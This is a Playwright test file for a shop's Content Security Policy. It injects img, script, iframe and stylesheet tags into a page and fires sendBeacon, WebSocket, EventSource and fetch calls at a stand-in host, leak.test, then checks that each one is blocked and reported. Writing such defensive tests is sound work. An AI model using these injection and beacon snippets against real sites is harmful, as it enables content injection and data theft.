// A page that is made to leak on purpose: what the shopper has not said yes to is stopped, and the shop hears of it.

import { shopAddress } from '../fixtures/address.ts';
import { answer, answered, standIn } from '../fixtures/consent.ts';
import * as pages from '../fixtures/pages.ts';
import { expect, test } from '../fixtures/shop.ts';

// A page that comes back while a test answers for other hosts cannot glide in: the browser then gives up on the way.
test.use({ mayKeep: [answered], contextOptions: { reducedMotion: 'reduce' } });

const ways = ['connect-src', 'frame-src', 'img-src', 'script-src-elem', 'style-src-elem'];

for (const said of ['nothing', 'yes to everything'] as const) {
  test(`what is smuggled into a page reaches nobody after ${said}, and is reported @desk @with-script`, async ({
    page,
    context,
    complaints,
    network,
    visit,
  }) => {
    await standIn(context);
    await visit(pages.home);
    if (said !== 'nothing') await answer(page, 'Accept all');
    const before = await stopped();

    // The markup goes in between the real headers and the real page.
    await page.route('**/faq', async (route) => {
      const asked = route.request();
      // Asked for by the test itself, since the wall around the browser lets nobody else pass.
      const response = await fetch(asked.url(), { headers: await asked.allHeaders() });
      const headers = Object.fromEntries(response.headers);
      for (const name of ['content-encoding', 'content-length', 'etag']) delete headers[name];
      const leak = 'https://leak.test';
      const smuggled = `<img src="${leak}/i.png"><script src="${leak}/s.js"></script><iframe src="${leak}/f"></iframe>
        <link rel="stylesheet" href="${leak}/s.css"><link rel="preconnect" href="${leak}">`;
      const body = (await response.text()).replace('</body>', `${smuggled}</body>`);
      await route.fulfill({ status: response.status, headers, body });
    });
    await visit(pages.questions);
    await page.evaluate(async () => {
      navigator.sendBeacon('https://leak.test/beacon', 'x');
      try {
        new WebSocket('wss://leak.test/socket');
      } catch {
        // Some browsers refuse at once and some later; both say so to the listener.
      }
      new EventSource('https://leak.test/events');
      await fetch('https://leak.test/fetch').catch(() => undefined);
    });

    await expect.poll(async () => (await stopped()) - before).toBeGreaterThanOrEqual(ways.length);
    const heard: string[] = [];
    const missing = () => {
      heard.push(...complaints.take().filter((said) => said.startsWith('refused: ')));
      return [...ways.map((way) => `by ${way}`), '/beacon', '/socket', '/events', '/fetch'].filter(
        (part) => !heard.some((complaint) => complaint.includes(part)),
      );
    };
    await expect.poll(missing).toEqual([]);
    expect(network.takeReached()).toEqual([]);
    // The browser tells of some requests that it then does not send.
    expect(network.takeForeign().filter((address) => !address.startsWith('https://leak.test'))).toEqual([]);
    await page.goto('about:blank');
    complaints.take();
  });
}

/** How many reports of something stopped the shop has counted. */
async function stopped(): Promise<number> {
  const metrics = await (await fetch(new URL('/metrics', shopAddress()))).text();
  const counts = metrics.matchAll(/^assay_content_policy_stopped_total\{[^}]*\} (\d+)$/gm);
  return [...counts].reduce((sum, [, count]) => sum + Number(count), 0);
}
